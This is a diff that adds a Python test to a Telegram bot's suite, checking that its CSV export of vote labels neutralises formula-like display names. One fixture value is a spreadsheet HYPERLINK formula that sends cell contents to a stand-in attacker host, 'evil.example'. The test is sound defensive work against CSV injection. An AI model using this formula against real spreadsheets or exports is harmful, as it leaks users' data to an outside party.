@@ -187,3 +187,23 @@ async def test_a_member_cannot_replace_the_running_session_and_ended_ones_stay_e
     since = fake.mark()
     fake.user_message(GROUP, BOB, f"/export@{BOT_USERNAME} 7", chat_type="group")
     await reply_text(fake, GROUP, "no session 7", since=since)
+
+
+async def test_display_names_that_look_like_formulas_stay_text_in_labels_csv(
+    fake: FakeBotApi, bot: Any, dataset: Dataset
+) -> None:
+    fake.names.update({ALICE: '=HYPERLINK("http://evil.example/?"&A1,"x")', BOB: "+1+2", ADMIN: "@SUM(1,2)"})
+    since = fake.mark()
+    fake.user_message(GROUP, ALICE, f"/find@{BOT_USERNAME} red boats", chat_type="group")
+    r1 = await next_round(fake, dataset, GROUP, since=since)
+    for user, button in ((ALICE, "👍 1"), (BOB, "👎 1"), (ADMIN, "👍 2")):
+        await callback_answer(fake, fake.press(GROUP, user, r1.keyboard, button))
+    since = fake.mark()
+    fake.user_message(GROUP, BOB, f"/export@{BOT_USERNAME}", chat_type="group")
+    csv_bytes, _ = await exported(fake, GROUP, since=since)
+    header, rows = read_csv(csv_bytes)
+    voters = header[4:]
+    assert len(voters) == 3 and all(h.startswith("'") for h in voters), header
+    assert any(h.startswith("'=HYPERLINK(") for h in voters)
+    assert {label_value(r["label"]) for r in rows} == {0, 1}  # -1/1 votes are still numbers
+    assert any(label_value(r[v]) == -1 for r in rows for v in voters if r[v])
